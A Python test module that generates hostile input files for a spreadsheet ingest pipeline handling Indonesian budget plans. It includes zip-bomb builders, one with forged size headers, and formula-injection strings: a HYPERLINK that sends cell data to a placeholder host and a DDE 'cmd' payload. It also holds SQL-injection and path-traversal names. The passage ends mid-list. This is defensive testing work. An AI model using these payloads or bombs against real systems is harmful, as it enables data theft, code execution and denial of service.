"""The hostile-input corpus, generated at test time (no committed binaries).

Each `Case` writes one input file under data/raw/ and says what ingest must make of it:
`loaded` (with case-specific checks on the staged rows) or `failed` with the English rule
id in the reason and a message that names the file. Cases that need other settings
(size limits) or that are too big for the combined run say so.
"""

from __future__ import annotations

import csv
import io
import json
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

TITLE = "RENCANA KERJA (RENJA) BADAN UJI KETAHANAN DATA PROVINSI BANTEN TAHUN 2021"
HEADER = [
    "KODE",
    "PROGRAM/KEGIATAN/SUB KEGIATAN",
    "INDIKATOR KINERJA",
    "TARGET",
    "SATUAN",
    "LOKASI",
    "PAGU INDIKATIF (Rp)",
]
PROGRAM = ["1.06.02", "PROGRAM PEMBERDAYAAN SOSIAL", None, None, None, None, None]
KEGIATAN = [
    "1.06.02.2.01",
    "Pemberdayaan Sosial Komunitas Adat Terpencil (KAT)",
    None,
    None,
    None,
    None,
    None,
]
SUB1 = [
    "1.06.02.2.01.0001",
    "Pemetaan Sosial Komunitas Adat Terpencil",
    "Jumlah dokumen pemetaan",
    "12",
    "Dokumen",
    "Kota Serang",
    1250000000,
]
SUB2 = [
    "1.06.02.2.01.0002",
    "Penyediaan Sarana Prasarana Pemberdayaan KAT",
    "Jumlah paket sarana",
    "35",
    "Paket",
    "Kab. Pandeglang",
    750000000,
]
JUMLAH = [None, "JUMLAH", None, None, None, None, 2000000000]
CODES = (SUB1[0], SUB2[0])

USULAN_HEADER = [
    "ID USULAN",
    "USULAN",
    "PERMASALAHAN",
    "LOKASI",
    "KECAMATAN",
    "DESA",
    "VOLUME",
    "SATUAN",
    "ANGGARAN",
    "OPD TUJUAN",
]


def renja_rows(title: bool = True, tag: str = "") -> list[list[Any]]:
    """A small, ordinary Renja sheet: title, blank, header, program and kegiatan group rows,
    two sub kegiatan and a JUMLAH row (rows 1..8 with the title). `tag` goes into the title,
    so files of the same content under different names still differ (identical bytes load
    once, as duplicates)."""
    rows: list[list[Any]] = [[f"{TITLE} - {tag}" if tag else TITLE], []] if title else []
    return rows + [list(HEADER), list(PROGRAM), list(KEGIATAN), list(SUB1), list(SUB2), list(JUMLAH)]


def usulan_rows(extra: list[list[Any]] | None = None) -> list[list[Any]]:
    rows = [
        list(USULAN_HEADER),
        [
            "MR-0001",
            "Pembangunan Jalan Lingkungan",
            "Jalan rusak berat sepanjang 500 m",
            "Kp. Cibeber RT 02",
            "Cikeusal",
            "Sukamaju",
            "500",
            "Meter",
            "250.000.000",
            "DPUPR",
        ],
        [
            "MR-0002",
            "Rehabilitasi Posyandu",
            "Atap bocor",
            "Kp. Leuwi RT 01",
            "Petir",
            "Tambiluk",
            "1",
            "Unit",
            "75.000.000",
            "DINKES",
        ],
    ]
    return rows + (extra or [])


# ---------------------------------------------------------------------------------------
# Writers


@dataclass
class SheetSpec:
    name: str
    rows: list[list[Any]]
    hidden: bool = False
    hidden_rows: tuple[int, ...] = ()  # 1-based
    merges: tuple[tuple[int, int, int, int, Any], ...] = ()  # 0-based r0, c0, r1, c1, value
    formulas: dict[tuple[int, int], tuple[str, Any]] = field(
        default_factory=dict
    )  # (r, c) -> (formula, cached)


def write_xlsx(path: Path, sheets: list[SheetSpec], constant_memory: bool = False) -> Path:
    import xlsxwriter

    path.parent.mkdir(parents=True, exist_ok=True)
    # Strings are never turned into formulas or numbers: the file holds what a planner typed.
    wb = xlsxwriter.Workbook(
        str(path),
        {
            "constant_memory": constant_memory,
            "strings_to_formulas": False,
            "strings_to_numbers": False,
            "strings_to_urls": False,
        },
    )
    for spec in sheets:
        ws = wb.add_worksheet(spec.name)
        for r, row in enumerate(spec.rows):
            if r + 1 in spec.hidden_rows:
                ws.set_row(r, None, None, {"hidden": True})
            for c, value in enumerate(row):
                if (r, c) in spec.formulas:
                    formula, cached = spec.formulas[(r, c)]
                    ws.write_formula(r, c, formula, None, cached)
                elif value is None:
                    continue
                elif isinstance(value, str):
                    ws.write_string(r, c, value)
                else:
                    ws.write(r, c, value)
        for r0, c0, r1, c1, value in spec.merges:
            ws.merge_range(r0, c0, r1, c1, value)
        if spec.hidden:
            ws.hide()
    wb.close()
    return path


def write_xls(path: Path, rows: list[list[Any]], sheet: str = "Renja") -> Path:
    import xlwt

    path.parent.mkdir(parents=True, exist_ok=True)
    wb = xlwt.Workbook()
    ws = wb.add_sheet(sheet)
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is not None:
                ws.write(r, c, value)
    buf = io.BytesIO()
    wb.save(buf)
    path.write_bytes(buf.getvalue())
    return path


def write_csv(
    path: Path, rows: list[list[Any]], encoding: str = "utf-8", delimiter: str = ";", bom: bytes = b""
) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    text = io.StringIO()
    writer = csv.writer(text, delimiter=delimiter, lineterminator="\r\n")
    for row in rows:
        writer.writerow(["" if v is None else v for v in row])
    path.write_bytes(bom + text.getvalue().encode(encoding))
    return path


def renja_xlsx(path: Path, rows: list[list[Any]] | None = None, sheet: str = "Renja") -> Path:
    return write_xlsx(path, [SheetSpec(sheet, rows if rows is not None else renja_rows(tag=path.name))])


# Minimal parts of an xlsx written by hand (for the zip bomb and the broken XML).
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Renja" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_TAIL = b"</sheetData></worksheet>"


def _inline_row(r: int, values: list[Any]) -> bytes:
    cells = []
    for c, v in enumerate(values):
        ref = f"{chr(65 + c)}{r}"
        if isinstance(v, int | float):
            cells.append(f'<c r="{ref}"><v>{v}</v></c>')
        elif v is not None:
            cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{v}</t></is></c>')
    return f'<row r="{r}">{"".join(cells)}</row>'.encode()


def _xlsx_parts(archive: zipfile.ZipFile) -> None:
    archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
    archive.writestr("_rels/.rels", _RELS)
    archive.writestr("xl/workbook.xml", _WORKBOOK)
    archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)


def zip_bomb(path: Path, unpacked_mb: int = 120) -> Path:
    """A real, well-formed xlsx whose one sheet decompresses to `unpacked_mb` MB: the
    header, then the same data row over and over (compresses about 1000:1)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        _xlsx_parts(archive)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(_SHEET_HEAD + _inline_row(1, HEADER))
            row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
            chunk = row * ((1 << 20) // len(row))
            for _ in range(unpacked_mb):
                fh.write(chunk)
            fh.write(_SHEET_TAIL)
    return path


def zip_lying_sizes(path: Path, unpacked_mb: int = 120) -> Path:
    """A zip bomb whose directory lies: every entry claims to be 1 KB while the sheet
    really inflates to `unpacked_mb` MB (a size check that trusts the header is fooled)."""
    zip_bomb(path, unpacked_mb)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    # Patch the uncompressed size in the central directory (and the zip64 extra field).
    cd_sig = b"PK\x01\x02"
    pos = data.find(cd_sig)
    while pos != -1:
        name_len = int.from_bytes(data[pos + 28 : pos + 30], "little")
        extra_len = int.from_bytes(data[pos + 30 : pos + 32], "little")
        name = bytes(data[pos + 46 : pos + 46 + name_len]).decode()
        if name == info.filename:
            data[pos + 24 : pos + 28] = (1024).to_bytes(4, "little")
            extra = pos + 46 + name_len
            end = extra + extra_len
            while extra + 4 <= end:
                tag = int.from_bytes(data[extra : extra + 2], "little")
                size = int.from_bytes(data[extra + 2 : extra + 4], "little")
                if tag == 1 and size >= 8:  # zip64: uncompressed size first
                    data[extra + 4 : extra + 12] = (1024).to_bytes(8, "little")
                extra += 4 + size
        pos = data.find(cd_sig, pos + 4)
    path.write_bytes(bytes(data))
    return path


def broken_sheet_xml(path: Path) -> Path:
    """A well-formed zip with every xlsx part, but the sheet XML stops in the middle of a row."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        _xlsx_parts(archive)
        body = _SHEET_HEAD + _inline_row(1, HEADER) + _inline_row(2, SUB1) + b'<row r="3"><c r="A3" t="inl'
        archive.writestr("xl/worksheets/sheet1.xml", body)
    return path


def truncated_xlsx(path: Path) -> Path:
    renja_xlsx(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) * 3 // 5])
    return path


def garbage(path: Path, size: int = 6000, seed: int = 7) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(random.Random(seed).randbytes(size))
    return path


def encrypted_xlsx(path: Path) -> Path:
    """A real password-protected workbook (agile encryption, as Excel writes it)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = path.with_name(".plain-" + path.name)
    renja_xlsx(plain)
    with plain.open("rb") as src, path.open("wb") as out:
        OOXMLFile(src).encrypt("rahasia", out)
    plain.unlink()
    return path


# ---------------------------------------------------------------------------------------
# Checks on what was loaded


def staged(con, file_id: str, table: str = "staged.renja", where: str = "true") -> list[dict[str, Any]]:
    cur = con.execute(
        f"select * from {table} where file_id = ? and {where} order by sheet, source_row",  # noqa: S608
        [file_id],
    )
    names = [d[0] for d in cur.description]
    return [dict(zip(names, row, strict=True)) for row in cur.fetchall()]


def by_code(rows: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {r["kode"]: r for r in rows}


def skipped_reasons(con, file_id: str) -> dict[int, str]:
    return dict(
        con.execute(
            "select source_row, reason_code from raw.skipped_row where file_id = ?", [file_id]
        ).fetchall()
    )


def expect_two_renja_rows(con, file_id: str, **_: Any) -> dict[str, dict[str, Any]]:
    """The ordinary content: both sub kegiatan loaded with their parsed values, JUMLAH skipped."""
    rows = by_code(staged(con, file_id))
    assert set(CODES) <= set(rows), f"sub kegiatan missing: {sorted(rows)}"
    assert rows[SUB1[0]]["pagu"] == 1250000000 and rows[SUB2[0]]["pagu"] == 750000000
    assert rows[SUB1[0]]["nama"] == SUB1[1]
    assert rows[SUB1[0]]["target"] == 12
    assert "subtotal" in skipped_reasons(con, file_id).values()
    return rows


def raw_json(row: dict[str, Any]) -> dict[str, Any]:
    raw = row["raw"]
    return json.loads(raw) if isinstance(raw, str) else raw


# ---------------------------------------------------------------------------------------
# The cases


@dataclass(frozen=True)
class Case:
    id: str
    source_file: str  # relative to data/raw
    build: Callable[[Path], Any]  # writes the file at the given path
    outcome: str  # loaded / failed
    rule: str | None = None  # rule id in the reason of a failed file
    words: tuple[str, ...] = ()  # Indonesian words the reason must contain (what was expected)
    verify: Callable[..., Any] | None = None  # (con, file_id) -> None, for loaded files
    settings: dict[str, Any] = field(default_factory=dict)
    in_corpus_run: bool = True  # part of the combined full-pipeline run
    quarantined_codes: tuple[str, ...] = ()  # rows (by kode) validation must quarantine
    #: staged.renja rows of a loaded file by default; other kinds name their table
    table: str = "staged.renja"

    def path(self, raw: Path) -> Path:
        return raw / self.source_file


def _verify_shuffled(con, file_id, **_):
    expect_two_renja_rows(con, file_id)
    rows = by_code(staged(con, file_id))
    assert rows[SUB2[0]]["lokasi"] == "Kab. Pandeglang" and rows[SUB2[0]]["satuan"] == "Paket"


def _shuffled(path: Path) -> None:
    order = [6, 3, 1, 5, 0, 2, 4]  # PAGU first, KODE in the middle
    rows = [[TITLE], []] + [[r[i] for i in order] for r in renja_rows(title=False)]
    renja_xlsx(path, rows)


def _english(path: Path) -> None:
    header = [
        "Code",
        "Program / Activity / Sub-activity",
        "Performance Indicator",
        "Target",
        "Unit",
        "Location",
        "Indicative Budget (IDR)",
    ]
    renja_xlsx(path, [["WORK PLAN 2021"], [], header, SUB1, SUB2])


def _duplicate_headers(path: Path) -> None:
    header = [*HEADER, "PAGU INDIKATIF (Rp)", "LOKASI"]
    rows = [
        [TITLE],
        [],
        header,
        PROGRAM,
        KEGIATAN,
        [*SUB1, 999, "Desa Duplikat"],
        [*SUB2, 888, "Desa Kedua"],
        JUMLAH,
    ]
    renja_xlsx(path, rows)


def _verify_duplicate_headers(con, file_id, **_):
    rows = expect_two_renja_rows(con, file_id)  # the first PAGU column is the pagu
    text = json.dumps(raw_json(rows[SUB1[0]]), ensure_ascii=False)
    # No cell is lost: the second PAGU and LOKASI columns stay in the row's raw cells.
    assert "999" in text and "Desa Duplikat" in text and "1250000000" in text, text


def _wide(path: Path) -> None:
    extra = [f"KOLOM TAMBAHAN {i}" for i in range(len(HEADER) + 1, 1001)]
    filler = [f"isi {i}" for i in range(len(HEADER) + 1, 1001)]
    rows = [[TITLE], [], HEADER + extra, PROGRAM, KEGIATAN, SUB1 + filler, SUB2 + filler, JUMLAH]
    renja_xlsx(path, rows)


def _verify_wide(con, file_id, **_):
    rows = expect_two_renja_rows(con, file_id)
    raw = raw_json(rows[SUB1[0]])
    assert len(raw) >= 1000, len(raw)
    assert raw.get("KOLOM TAMBAHAN 1000") == "isi 1000"


def _merged(path: Path) -> None:
    subs = [
        ["1.06.02.2.01.0003", "Bimbingan Sosial KAT", "Jumlah warga", "40", "Orang", None, 100000000],
        ["1.06.02.2.01.0004", "Jaminan Hidup KAT", "Jumlah KK", "25", "KK", None, None],
    ]
    rows = [[TITLE], [], HEADER, PROGRAM, KEGIATAN, SUB1, SUB2, *subs, JUMLAH]
    merges = (
        (0, 0, 0, 6, TITLE),  # the title across the table
        (7, 5, 8, 5, "Kec. Cikeusal"),  # one lokasi for two data rows
        (7, 6, 8, 6, 300000000),  # one pagu for a block of rows: counted once, not per row
    )
    write_xlsx(path, [SheetSpec("Renja", rows, merges=merges)])


def _verify_merged(con, file_id, **_):
    rows = by_code(staged(con, file_id))
    assert {"1.06.02.2.01.0003", "1.06.02.2.01.0004", *CODES} <= set(rows)
    assert rows["1.06.02.2.01.0003"]["lokasi"] == "Kec. Cikeusal"
    assert rows["1.06.02.2.01.0004"]["lokasi"] == "Kec. Cikeusal"  # the merged label applies to each row
    assert rows["1.06.02.2.01.0003"]["pagu"] == 300000000
    assert rows["1.06.02.2.01.0004"]["pagu"] is None  # the merged amount is not counted twice


def _hidden(path: Path) -> None:
    visible = SheetSpec("Renja", renja_rows(), hidden_rows=(7,))  # SUB2 hidden
    hidden_data = SheetSpec(
        "Renja Lama",
        [
            [TITLE],
            [],
            HEADER,
            PROGRAM,
            KEGIATAN,
            ["1.06.02.2.01.0005", "Kegiatan Tersembunyi", "x", "1", "Paket", "Kota Cilegon", 5000000],
        ],
        hidden=True,
    )
    hidden_junk = SheetSpec("catatan", [["jangan diubah"], ["versi 3"]], hidden=True)
    write_xlsx(path, [visible, hidden_data, hidden_junk])


def _verify_hidden(con, file_id, **_):
    sheets = dict(con.execute("select sheet, hidden from raw.sheet where file_id = ?", [file_id]).fetchall())
    assert sheets == {"Renja": False, "Renja Lama": True, "catatan": True}, sheets
    rows = by_code(staged(con, file_id))
    assert rows[SUB2[0]]["hidden"] is True and rows[SUB1[0]]["hidden"] is False  # the hidden row, recorded
    assert rows["1.06.02.2.01.0005"]["hidden"] is True  # a row of a hidden sheet is marked hidden


def _formula_errors(path: Path) -> None:
    rows = renja_rows()
    formulas = {
        (5, 6): ("=#REF!*2", "#REF!"),
        (6, 6): ("=G6/0", "#DIV/0!"),
        (7, 6): ("=SUM(G6:G7)", 2000000000),
    }
    write_xlsx(path, [SheetSpec("Renja", rows, formulas=formulas)])


def _verify_formula_errors(con, file_id, **_):
    rows = by_code(staged(con, file_id))
    assert set(CODES) <= set(rows)
    # The error is data a planner must fix: it is kept as written, never read as "no pagu".
    assert rows[SUB1[0]]["pagu"] is None and rows[SUB1[0]]["pagu_raw"] == "#REF!", rows[SUB1[0]]["pagu_raw"]
    assert rows[SUB2[0]]["pagu_raw"] == "#DIV/0!", rows[SUB2[0]]["pagu_raw"]


_CP1252_NAME = "Perbaikan Jalan Desa Cikaré – tahap ‘satu’"  # é, en dash, curly quotes: all in cp1252


def _verify_usulan_text(expected_name: str, encoding: str | None = None):
    def verify(con, file_id, **_):
        rows = staged(con, file_id, "staged.usulan")
        names = {r["usulan_id"]: r["usulan"] for r in rows}
        assert names.get("MR-0001") == "Pembangunan Jalan Lingkungan", names
        assert names.get("MR-0003") == expected_name, names
        if encoding:
            got = con.execute("select encoding from raw.ingest_file where file_id = ?", [file_id]).fetchone()[
                0
            ]
            assert got.replace("_", "-").lower().startswith(encoding), got
        money = {r["usulan_id"]: r["anggaran"] for r in rows}
        assert money["MR-0001"] == 250000000

    return verify


def _extra_usulan(name: str) -> list[list[Any]]:
    return [
        [
            "MR-0003",
            name,
            "Banjir tiap musim hujan",
            "Kp. Sawah",
            "Cikeusal",
            "Sukamaju",
            "2",
            "Unit",
            "1.500.000",
            "DPUPR",
        ]
    ]


def _mixed_decimals(path: Path) -> None:
    subs = [
        [
            "1.06.02.2.01.0011",
            "Format Indonesia",
            "x",
            "0,96",
            "Persen",
            "Kota Serang",
            "Rp 1.250.000.000,00",
        ],
        ["1.06.02.2.01.0012", "Format Inggris", "x", "0.96", "Persen", "Kota Serang", "1,250,000,000.00"],
        ["1.06.02.2.01.0013", "Titik ribuan", "x", "12 Titik", None, "Kota Serang", "1.250.000.000"],
        ["1.06.02.2.01.0014", "Singkatan", "x", "1.250", "Meter", "Kota Serang", "Rp1,25 M"],
        ["1.06.02.2.01.0015", "Angka biasa", "x", "35", "Orang", "Kota Serang", 1250000000],
    ]
    renja_xlsx(path, [[TITLE], [], HEADER, PROGRAM, KEGIATAN, *subs])


def _verify_mixed_decimals(con, file_id, **_):
    rows = by_code(staged(con, file_id))
    for code in (
        "1.06.02.2.01.0011",
        "1.06.02.2.01.0012",
        "1.06.02.2.01.0013",
        "1.06.02.2.01.0014",
        "1.06.02.2.01.0015",
    ):
        assert rows[code]["pagu"] == 1250000000, (code, rows[code]["pagu_raw"], rows[code]["pagu"])
    assert rows["1.06.02.2.01.0011"]["target"] == 0.96 and rows["1.06.02.2.01.0012"]["target"] == 0.96
    assert rows["1.06.02.2.01.0013"]["target"] == 12 and rows["1.06.02.2.01.0013"]["satuan"] == "Titik"
    assert rows["1.06.02.2.01.0014"]["target"] == 1250  # '1.250 Meter': Indonesian thousands


TEXT_IN_NUMBER = "1.06.02.2.01.0021"


def _text_in_numbers(path: Path) -> None:
    subs = [[TEXT_IN_NUMBER, "Pagu belum jelas", "x", "12", "Paket", "Kota Serang", "menunggu TAPD"], SUB1]
    renja_xlsx(path, [[TITLE], [], HEADER, PROGRAM, KEGIATAN, *subs])


def _verify_text_in_numbers(con, file_id, **_):
    rows = by_code(staged(con, file_id))
    assert rows[TEXT_IN_NUMBER]["pagu"] is None and rows[TEXT_IN_NUMBER]["pagu_raw"] == "menunggu TAPD"
    assert rows[SUB1[0]]["pagu"] == 1250000000


EMOJI_NAME = "Pembangunan 🚧 Jalan\x07 Desa\x00 Sukamaju ✅"


def _emoji(path: Path) -> None:
    # Ordinary rows around it: a control character is rare in a real export, not the bulk of it.
    rows = usulan_rows(_extra_usulan("Sumur Bor") * 3) + [
        [
            "MR-0009",
            EMOJI_NAME,
            "Jalan\x0b rusak 😢",
            "Kp. \x1bBaru",
            "Cikeusal",
            "Sukamaju",
            "1",
            "Paket",
            "10.000.000",
            "DPUPR",
        ]
    ]
    write_csv(path, rows, delimiter=";")


def _verify_emoji(con, file_id, **_):
    (row,) = staged(con, file_id, "staged.usulan", "usulan_id = 'MR-0009'")
    assert "🚧" in row["usulan"] and "✅" in row["usulan"]
    assert not any(ord(ch) < 32 for ch in row["usulan"] + row["uraian"]), repr(row["usulan"])
    assert row["usulan"].startswith("Pembangunan 🚧 Jalan")


INJECTIONS = (
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik di sini")',
    "+62 812 3456",
    "-Jalan Baru",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def _injection_xlsx(path: Path) -> None:
    subs = [
        [f"1.06.02.2.01.00{30 + i}", text, text, "1", "Paket", text, 1000000]
        for i, text in enumerate(INJECTIONS)
    ]
    renja_xlsx(path, [[TITLE], [], HEADER, PROGRAM, KEGIATAN, *subs])


def _verify_injection_xlsx(con, file_id, **_):
    rows = staged(con, file_id)
    assert sorted(r["nama"] for r in rows) == sorted(INJECTIONS)  # stored as text, verbatim
    assert sorted(r["lokasi"] for r in rows) == sorted(INJECTIONS)


def _injection_csv(path: Path) -> None:
    extra = [
        [f"MR-01{i}", text, text, text, "Cikeusal", "Sukamaju", "1", "Paket", "1.000.000", "DPUPR"]
        for i, text in enumerate(INJECTIONS)
    ]
    write_csv(path, [list(USULAN_HEADER), *extra], delimiter=",")


def _verify_injection_csv(con, file_id, **_):
    rows = staged(con, file_id, "staged.usulan")
    assert sorted(r["usulan"] for r in rows) == sorted(INJECTIONS)


SQL_SHEET = "R'; DROP TABLE staged.renja; --"
SQL_TEXT = "Robert'); DROP TABLE staged.renja; --"
SQL_OPD = "x' OR '1'='1'; DELETE FROM raw.ingest_file; --"


def _sql_names(path: Path) -> None:
    rows = [
        [f"RENCANA KERJA {SQL_OPD} TAHUN 2021"],
        [],
        [*HEADER, "OPD"],
        PROGRAM,
        KEGIATAN,
        [*SUB1[:1], SQL_TEXT, *SUB1[2:], SQL_OPD],
        [*SUB2, SQL_OPD],
        JUMLAH,
    ]
    write_xlsx(path, [SheetSpec(SQL_SHEET, rows)])


def _verify_sql_names(con, file_id, **_):
    rows = by_code(staged(con, file_id))
    assert rows[SUB1[0]]["nama"] == SQL_TEXT and rows[SUB1[0]]["opd"] == SQL_OPD
    assert rows[SUB1[0]]["sheet"] == SQL_SHEET
    assert rows[SUB1[0]]["row_ref"].endswith(f":{SQL_SHEET}:6")
    assert (
        con.execute("select count(*) from raw.ingest_file").fetchone()[0] >= 1
    )  # nothing dropped or deleted


def _verify_name(con, file_id, source_file: str, **_):
    expect_two_renja_rows(con, file_id)
    rows = staged(con, file_id)
    assert {r["source_file"] for r in rows} == {source_file}
    assert all(r["row_ref"].startswith(source_file + ":") for r in rows)


def _ragged(path: Path) -> None:
    rows = [
        list(USULAN_HEADER),
        [
            "MR-0001",
            "Pembangunan Jalan Lingkungan",
            "Rusak",
            "Kp. A",
            "Cikeusal",
            "Sukamaju",
            "1",
            "Paket",
            "1.000.000",
            "DPUPR",
            "sisa 1",
            "sisa 2",
        ],
        ["MR-0002", "Rehabilitasi Posyandu", "Bocor"],
    ]
    write_csv(path, rows, delimiter=";")


def _verify_ragged(con, file_id, **_):
    rows = {r["usulan_id"]: r for r in staged(con, file_id, "staged.usulan")}
    assert set(rows) == {"MR-0001", "MR-0002"}
    text = json.dumps(raw_json(rows["MR-0001"]), ensure_ascii=False)
    assert "sisa 1" in text and "sisa 2" in text  # cells beyond the header are kept


def _nul_csv(path: Path) -> None:
    write_csv(path, usulan_rows(_extra_usulan("Sumur\x00 Bor")), delimiter=";")


def _html_export(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(
        "<html><body><table><tr><td>KODE</td><td>PROGRAM</td></tr></table></body></html>", encoding="utf-8"
    )


def _docx(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")


def _pdf(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")


def _write_bytes(data: bytes) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    return build


def _missing_required(path: Path) -> None:
    renja_xlsx(
        path,
        [
            [TITLE],
            [],
            ["INDIKATOR KINERJA", "TARGET", "SATUAN", "LOKASI", "PAGU INDIKATIF"],
            ["Jumlah dokumen", "12", "Dokumen", "Kota Serang", 1000000],
        ],
    )


def _top_level_unknown(path: Path) -> None:
    write_csv(path, [["nama barang", "harga", "toko"], ["kertas", "50000", "ATK Jaya"]], delimiter=",")


SPACES_QUOTES = "renja/Renja 'Badan' \"Uji\" Ketahanan (final) v2.xlsx"
NON_LATIN = "renja/Ренджа データ رنجا 2021.xlsx"
BACKSLASH_DOTDOT = "renja/Renja ..\\..\\..\\keluar dari folder.xlsx"
SQL_FILE = "renja/x'; DROP TABLE raw.ingest_file; --.xlsx"

CASES: list[Case] = [
    # --- refused: unreadable, protected or not a workbook -----------------------------------
    Case("truncated_xlsx", "renja/renja_terpotong.xlsx", truncated_xlsx, "failed", "corrupt_file"),
    Case("random_bytes_xlsx", "renja/acak.xlsx", garbage, "failed", "corrupt_file"),
    Case("broken_sheet_xml", "renja/xml_rusak.xlsx", broken_sheet_xml, "failed", "corrupt_file"),
    Case("zip_bomb", "renja/bom_zip.xlsx", zip_bomb, "failed", "zip_bomb"),
    Case(
        "zip_bomb_absolute_size",
        "renja/bom_zip_besar.xlsx",
        lambda p: zip_bomb(p, 30),
        "failed",
        "zip_bomb",
        settings={"max_unzipped_mb": 10, "max_zip_ratio": 1e9},
        in_corpus_run=False,
    ),
    Case("zip_bomb_lying_header", "renja/bom_zip_bohong.xlsx", zip_lying_sizes, "failed", "corrupt_file"),
    Case(
        "encrypted_xlsx",
        "renja/renja_berpassword.xlsx",
        encrypted_xlsx,
        "failed",
        "encrypted_file",
        words=("kata sandi",),
    ),
    Case("empty_xlsx", "renja/kosong.xlsx", _write_bytes(b""), "failed", "empty_file"),
    # Same bytes as empty_xlsx: kept out of the combined run (see the test of identical refused files).
    Case(
        "empty_csv", "musrenbang/kosong.csv", _write_bytes(b""), "failed", "empty_file", in_corpus_run=False
    ),
    Case(
        "blank_lines_csv",
        "musrenbang/hanya_baris_kosong.csv",
        _write_bytes(b";;;;\r\n;;;;\r\n\r\n"),
        "failed",
        "empty_file",
    ),
    Case(
        "title_only",
        "renja/hanya_judul.xlsx",
        lambda p: renja_xlsx(p, [[TITLE]]),
        "failed",
        "no_header",
        words=("KODE",),
    ),
    Case("english_headers", "renja/english_workplan.xlsx", _english, "failed", "no_header", words=("KODE",)),
    Case(
        "required_column_missing",
        "renja/tanpa_kode_nama.xlsx",
        _missing_required,
        "failed",
        "required_column_missing|no_header",
        words=("KODE",),
    ),
    Case("html_named_xls", "renja/ekspor_web.xls", _html_export, "failed", "unsupported_format"),
    Case("word_named_xlsx", "renja/dokumen.xlsx", _docx, "failed", "unsupported_format"),
    Case("pdf", "renja/renja.pdf", _pdf, "failed", "unsupported_format"),
    Case("binary_csv", "musrenbang/biner.csv", lambda p: garbage(p, seed=8), "failed", "corrupt_file"),
    Case(
        "too_large",
        "renja/terlalu_besar.xlsx",
        renja_xlsx,
        "failed",
        "file_too_large",
        settings={"max_file_mb": 0.001},
        in_corpus_run=False,
    ),
    Case(
        "top_level_unknown",
        "daftar_belanja.csv",
        _top_level_unknown,
        "failed",
        "no_header|unknown_kind",
        words=("KODE",),
    ),
    # --- loaded, whatever their shape ---------------------------------------------------------
    Case(
        "xls_renamed_xlsx",
        "renja/lama_dinamai_xlsx.xlsx",
        lambda p: write_xls(p, renja_rows(tag=p.name)),
        "loaded",
        verify=expect_two_renja_rows,
    ),
    Case(
        "real_xls",
        "renja/renja_lama.xls",
        lambda p: write_xls(p, renja_rows(tag=p.name)),
        "loaded",
        verify=expect_two_renja_rows,
    ),
    Case("top_level_renja", "renja_tanpa_folder.xlsx", renja_xlsx, "loaded", verify=expect_two_renja_rows),
    Case("shuffled_headers", "renja/kolom_diacak.xlsx", _shuffled, "loaded", verify=_verify_shuffled),
    Case(
        "duplicate_headers",
        "renja/header_ganda.xlsx",
        _duplicate_headers,
        "loaded",
        verify=_verify_duplicate_headers,
    ),
    Case("wide_1000_columns", "renja/seribu_kolom.xlsx", _wide, "loaded", verify=_verify_wide),
    Case("merged_cells", "renja/sel_gabung.xlsx", _merged, "loaded", verify=_verify_merged),
